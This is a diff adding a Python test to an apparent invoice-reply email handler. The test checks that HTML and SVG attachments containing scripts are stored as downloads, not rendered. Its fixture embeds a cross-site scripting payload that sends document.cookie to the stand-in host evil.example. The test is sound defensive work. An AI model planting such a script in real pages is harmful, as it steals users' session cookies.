@@ -353,6 +353,28 @@ def test_a_reply_nobody_can_match_is_logged_unmatched_with_a_task_and_pauses_no_
     assert active_pause(ports.store, invoice.customer_id, at) is None
 
 
+def test_attachments_a_browser_would_run_are_stored_to_download_never_to_render(world):
+    ports, invoice, address, at = world
+    # Given a reply to the token carrying a PDF, an HTML page and an SVG (both with scripts) and a PNG
+    def part(content_type: str, name: str, body: bytes) -> str:
+        return (f"--b\nContent-Type: {content_type}; name=\"{name}\"\nContent-Disposition: attachment; filename=\"{name}\"\n"
+                f"Content-Transfer-Encoding: base64\n\n{base64.encodebytes(body).decode()}")
+    script = b"<script>fetch('https://evil.example/?c='+document.cookie)</script>"
+    raw = (f"From: ap@debtor.example\nTo: {address}\nSubject: Re: invoice\nMIME-Version: 1.0\n"
+           "Content-Type: multipart/mixed; boundary=\"b\"\n\n--b\nContent-Type: text/plain\n\nSee attached.\n"
+           + part("application/pdf", "remittance.pdf", b"%PDF-1.4 remittance")
+           + part("text/html", "statement.html", b"<html><body>paid" + script + b"</body></html>")
+           + part("image/svg+xml", "logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg'>" + script + b"</svg>")
+           + part("image/png", "scan.png", b"\x89PNG\r\n\x1a\n") + "--b--\n").encode()
+    receive_message(raw, ports)
+    entry = ports.store.entries(invoice.invoice_id)[-1]
+    # Then each is kept whole, the active ones stored as application/octet-stream (a presigned link downloads them)
+    assert [(a.uri.rpartition("/")[2], a.content_type) for a in entry.artefacts[1:]] == [
+        ("01-remittance.pdf", "application/pdf"), ("02-statement.html", "application/octet-stream"),
+        ("03-logo.svg", "application/octet-stream"), ("04-scan.png", "image/png")]
+    assert script in ports.artefacts.get(entry.artefacts[2].uri)
+
+
 def test_an_unreadable_reply_to_a_token_is_logged_as_unreadable_with_a_task(world):
     ports, invoice, address, at = world
     raw = (f"From: ap@debtor.example\nTo: {address}\nContent-Type: text/plain; charset=utf-8\n"
